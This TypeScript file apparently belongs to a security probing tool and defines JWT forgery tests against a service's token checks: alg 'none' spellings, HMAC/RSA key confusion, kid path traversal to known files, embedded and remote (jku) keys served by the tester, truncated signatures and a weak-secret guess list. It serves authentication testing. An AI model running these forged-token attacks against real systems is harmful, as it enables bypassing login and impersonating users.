import { type Attack, attack, type Benign, closed, jwt, open } from '#probe';
import { customer, firstLetIn, forgedClaims, genuineTokenWorks } from './_ferry.ts';
import { afterRotation, brokenToken, tokenByAccounts } from './_ordinary-use.ts';
import { publishedKey } from './_published-key.ts';
import { remoteKeyReplay } from './_remote-key-replay.ts';

const HEADER = { typ: 'JWT' };
const control = genuineTokenWorks;

/** Every way to write "none" in upper and lower case. */
const spellings = Array.from({ length: 16 }, (_, bits) =>
  [...'none'].map((c, i) => (bits & (1 << i) ? c.toUpperCase() : c)).join(''),
);

const algNone = attack({
  id: 'alg-none',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const found = await firstLetIn(
      t,
      spellings.map((alg) => ({ alg, token: jwt.encode({ ...HEADER, alg }, claims) })),
    );
    return found ? open({ params: { alg: found.alg }, shown: t.exchangeOf(found.answer) }) : closed();
  },
});

const keyConfusion = attack({
  id: 'key-confusion',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const { kid, forms } = await publishedKey(t);
    const tries = forms.flatMap((key) =>
      ['HS256', 'hs256', 'HS384', 'HS512'].map((alg) => ({
        alg,
        token: jwt.hmac({ ...HEADER, alg, kid }, claims, key),
      })),
    );
    const found = await firstLetIn(t, tries);
    return found ? open({ params: { alg: found.alg }, shown: t.exchangeOf(found.answer) }) : closed();
  },
});

/** Files whose content an outsider knows. */
const KNOWN_FILES = { 'dev/null': '', 'proc/sys/kernel/ostype': 'Linux\n' };

const kidTraversal = attack({
  id: 'kid-traversal',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const up = (part: string) => part.repeat(6 + t.random.int(4));
    const tries = Object.entries(KNOWN_FILES).flatMap(([file, key]) =>
      [up('../'), `${t.random.word()}/${up('../')}`, up('....//'), '/', 'file:///'].map((way) => {
        const kid = `${way}${file}`;
        return { kid, token: jwt.hmac({ ...HEADER, alg: 'HS256', kid }, claims, key) };
      }),
    );
    const found = await firstLetIn(t, tries);
    return found ? open({ params: { kid: found.kid }, shown: t.exchangeOf(found.answer) }) : closed();
  },
});

const embeddedKey = attack({
  id: 'embedded-key',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const { header } = await customer(t);
    const own = await jwt.keyPair(t.random.word());
    const tries = [own.jwk.kid, header.kid].map((kid) => ({
      token: jwt.rsa({ ...HEADER, alg: 'RS256', kid, jwk: own.jwk }, claims, own.private),
    }));
    const found = await firstLetIn(t, tries);
    return found ? open({ shown: t.exchangeOf(found.answer) }) : closed();
  },
});

const remoteKey = attack({
  id: 'remote-key',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const own = await jwt.keyPair(t.random.word());
    const path = `/${t.random.word()}.json`;
    const server = await t.serve((asked) => (asked.path === path ? { keys: [own.jwk] } : undefined));
    const url = `${server.url}${path}`;
    const token = jwt.rsa({ ...HEADER, alg: 'RS256', kid: own.jwk.kid, jku: url }, claims, own.private);
    const replay = remoteKeyReplay(t.address('workbench'), claims);
    const found = await firstLetIn(t, [{ token }]);
    if (found) return open({ params: { url }, shown: t.exchangeOf(found.answer), replay });
    return server.asked.length > 0 ? open({ message: 'remote-key-fetched', params: { url }, replay }) : closed();
  },
});

const ALPHABET = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'];

const truncatedSignature = attack({
  id: 'truncated-signature',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const { token, header } = await customer(t);
    const signature = token.split('.')[2] ?? '';
    const cut = [0, 1, signature.length >> 1].map((kept) => ({
      what: `only ${kept} of the ${signature.length} characters of its signature were left`,
      token: `${token.slice(0, token.length - signature.length)}${signature.slice(0, kept)}`,
    }));
    const guessed = ALPHABET.map((letter) => ({
      what: `its signature is one single letter, found by trying all ${ALPHABET.length}`,
      token: jwt.encode({ ...HEADER, alg: 'HS256', kid: header.kid }, claims, letter),
    }));
    const found = await firstLetIn(t, [...cut, ...guessed]);
    return found ? open({ params: { what: found.what }, shown: t.exchangeOf(found.answer) }) : closed();
  },
});

const GUESSES = [
  'secret',
  'password',
  'ferry',
  'changeme',
  'parcel',
  'harbour',
  'anchor',
  'courier',
  'letterbox',
  'lighthouse',
  'shipment',
  'seagull',
  'mainsail',
  'warehouse',
  'postcard',
  'tugboat',
  'captain',
  'gateway',
  'letter',
  'stamp',
];

const weakSecret = attack({
  id: 'weak-secret',
  at: 'outside',
  control,
  async attack(t) {
    const claims = await forgedClaims(t);
    const found = await firstLetIn(
      t,
      GUESSES.map((guess) => ({ token: jwt.hmac({ ...HEADER, alg: 'HS256' }, claims, guess) })),
    );
    return found ? open({ params: { tries: String(found.tries) }, shown: t.exchangeOf(found.answer) }) : closed();
  },
});

export default [
  algNone,
  keyConfusion,
  kidTraversal,
  embeddedKey,
  remoteKey,
  truncatedSignature,
  weakSecret,
  tokenByAccounts,
  afterRotation,
  brokenToken,
] satisfies (Attack | Benign)[];
